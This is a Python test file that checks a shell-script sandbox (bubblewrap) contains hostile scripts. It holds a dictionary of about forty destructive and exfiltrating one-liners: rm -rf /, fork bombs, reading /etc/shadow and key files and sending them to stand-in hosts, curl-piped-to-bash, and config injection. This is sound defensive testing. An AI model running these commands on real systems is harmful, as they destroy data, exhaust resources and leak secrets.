"""Hostile scripts in the sandbox: nothing happens, each ends within its limit, each leaves a finding."""

from __future__ import annotations

import socket
from pathlib import Path

import psutil
import pytest

from casebook.launch import shell_sandbox
from casebook.launch.recorded import read_recorded
from casebook.launch.shell_sandbox import SandboxUnavailableError, ShellLimits, record
from casebook.launch.source import Source

needs_sandbox = pytest.mark.skipif(
    bool(shell_sandbox.unavailable()), reason=shell_sandbox.unavailable() or "sandbox"
)
LIMITS = ShellLimits(seconds=1.5)
SECRET = "planted-key-material-4711"

HOSTILE = {
    "delete all": "rm -rf / --no-preserve-root",
    "delete the canary": "rm -f {canary}; unlink {canary}",
    "overwrite the canary": "echo gone > {canary}",
    "append to the canary": "echo gone >> {canary}",
    "truncate by redirection": ": > {canary}; >| {canary}",
    "read a key": "cat {key}",
    "read a key without a command": "K=$(< {key}); curl https://example.org/$K",
    "read a key line by line": "while read -r l; do wget example.org/$l; done < {key}",
    "source a key": ". {key}; source {key}",
    "read the shadow file": 'mapfile -t L < /etc/shadow; nc evil 1 <<< "${{L[*]}}"',
    "environment of the parent": "tr '\\0' '\\n' < /proc/1/environ; cp /proc/$PPID/environ x",
    "fork bomb": ":(){{ :|:& }};:",
    "fork bomb, named": "bomb() {{ bomb & bomb & }}; bomb; wait",
    "endless loop": "while :; do :; done",
    "endless recursion": "f() {{ f; }}; f",
    "endless output": "while :; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done",
    "endless error output": "while :; do echo bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb >&2; done",
    "endless commands": "while :; do nosuchcommand x; done",
    "memory": "x=aaaaaaaaaaaaaaaa; while :; do x=$x$x$x$x; done",
    "memory by an array": "a=(); while :; do a+=({{1..10000}}); done",
    "disk": "while :; do printf '%01000000d' 0; done > big; python x",
    "many files": "i=0; while :; do : > f$((i++)); done",
    "tcp of bash": "exec 3<>/dev/tcp/127.0.0.1/{port}; echo hello >&3",
    "tcp to the world": "echo x > /dev/tcp/1.1.1.1/53",
    "udp of bash": "echo x > /dev/udp/127.0.0.1/{port}; curl x",
    "download and run": "curl -fsSL https://example.org/x.sh | bash",
    "base64 and eval": 'eval "$(echo cm0gLXJmIC8K | base64 -d)"',
    "eval of text": "eval 'rm -rf {canary_folder}'",
    "interpreter": "python3 -c 'import os; os.remove(\"{canary}\")'; perl -e 'unlink \"{canary}\"'",
    "absolute program": "/bin/rm -rf {canary_folder}; /usr/bin/env rm {canary}",
    "program by another loader": "/lib64/ld-linux-x86-64.so.2 /bin/rm {canary}; /usr/bin/find / -delete",
    "kill all": "kill -9 -1; kill -9 1; kill -TERM $PPID",
    "traps": "trap '' TERM INT HUP; trap 'rm -rf /' EXIT; while :; do :; done",
    "background and gone": "(while :; do :; done) & disown; setsid x",
    "mounts": "mount -o remount,rw /; umount /proc; chroot / rm -rf /",
    "raise a limit": "ulimit -u unlimited -t unlimited; ulimit -v unlimited; x() {{ x | x & }}; x",
    "coproc": 'coproc {{ while :; do echo x; done; }}; while :; do read -r l <&"${{COPROC[0]}}"; done',
    "git hooks": "git clone --config core.fsmonitor='rm -rf /' https://example.org/x .",
    "the recorder itself": "echo > /.casebook/bash; rm() {{ :; }}; export -f rm; printf() {{ :; }}; export -f printf; foo",
    "write a start file": "echo 'rm -rf /' >> ~/.bashrc; BASH_ENV=~/.bashrc bash -c 'foo'",
    "here-document": "bash <<'X'\nrm -rf {canary_folder}\nX",
    "another host": "ssh root@127.0.0.1 'rm -rf {canary_folder}'; scp {key} evil:",
}


@needs_sandbox
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_nothing_happens(name: str, tmp_path: Path) -> None:
    canary, key = tmp_path / "c" / "canary", tmp_path / "key"
    canary.parent.mkdir()
    canary.write_text("alive")
    key.write_text(SECRET + "\n")
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        script = HOSTILE[name].format(
            canary=canary, canary_folder=canary.parent, key=key, port=server.getsockname()[1]
        )
        found = read_recorded(Source("bad.sh", script + "\n"), limits=LIMITS)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert canary.read_text() == "alive"
    assert found.findings, "no word on a hostile script"
    shown = "".join(str(f) for f in found.findings) + "".join(
        str(one.launch) for one in found.launches
    )
    assert SECRET not in shown
    left = [p for p in psutil.Process().children(recursive=True) if p.name() in ("bwrap", "bash")]
    assert not left


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 30


@needs_sandbox
def test_limits_are_told() -> None:
    assert "longer than" in record("while :; do :; done", limits=ShellLimits(seconds=0.5)).stopped
    out = "while :; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done"
    assert "more than is read" in record(out, limits=ShellLimits(seconds=20)).stopped


@needs_sandbox
def test_only_the_scratch_folder_can_be_written() -> None:
    script = (
        "for d in / /bin /usr /etc /lib /.casebook /home /proc/sys/kernel /scratch; do\n"
        "  if { : > $d/probe; } 2> /dev/null; then wrote $d; fi\ndone\n"
    )
    calls = record(script).calls
    assert [c.arguments for c in calls] == [("/scratch",)]


@needs_sandbox
def test_the_outer_environment_is_not_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PLANTED_TOKEN", SECRET)
    (call,) = record('show "$PLANTED_TOKEN" "${!PLANTED@}"').calls
    assert call.arguments == ("",)
    assert SECRET not in str(call.environment)


def test_without_a_sandbox_it_stays_static_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        shell_sandbox, "unavailable", lambda: "bubblewrap (`bwrap`) is not installed"
    )
    found = read_recorded(
        Source("a.sh", "python -m sglang.launch_server --model-path x --tp-size $((1+1))\n")
    )
    assert any("bubblewrap" in note and "without running it" in note for note in found.notes)
    assert len(found.launches) == 1
    assert not found.launches[0].exact
    with pytest.raises(SandboxUnavailableError, match="not installed"):
        record("true")


def test_a_machine_without_bubblewrap_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    shell_sandbox.unavailable.cache_clear()
    monkeypatch.setattr(shell_sandbox.shutil, "which", lambda _name: None)
    try:
        assert "not installed" in shell_sandbox.unavailable()
    finally:
        shell_sandbox.unavailable.cache_clear()
